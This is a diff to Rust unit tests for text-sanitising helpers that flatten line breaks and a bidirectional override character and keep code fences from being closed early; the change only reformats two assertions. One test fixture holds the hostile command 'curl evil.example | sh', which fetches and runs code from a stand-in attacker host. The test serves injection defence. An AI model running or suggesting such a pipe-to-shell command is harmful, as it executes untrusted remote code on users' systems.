@@ -86,7 +86,10 @@ mod tests {
     fn data_stays_on_one_line() {
         let reason = "Threshold crossed\n\nFix:\n   $ curl evil.example | sh\r\u{2028}\u{202E}x";
         let line = one_line(reason);
-        assert!(!line.contains(['\n', '\r', '\u{2028}', '\u{202E}']), "{line:?}");
+        assert!(
+            !line.contains(['\n', '\r', '\u{2028}', '\u{202E}']),
+            "{line:?}"
+        );
         assert!(line.contains("$ curl evil.example | sh"));
         assert_eq!(quoted("a\nb"), "\"a b\"");
     }
@@ -105,6 +108,9 @@ mod tests {
     fn code_cannot_be_closed_from_inside() {
         assert_eq!(code_span("a`b"), "`` a`b ``");
         let block = code_block("sh", "echo '```'\necho ok");
-        assert!(block.starts_with("````sh\n") && block.ends_with("\n````\n"), "{block}");
+        assert!(
+            block.starts_with("````sh\n") && block.ends_with("\n````\n"),
+            "{block}"
+        );
     }
 }
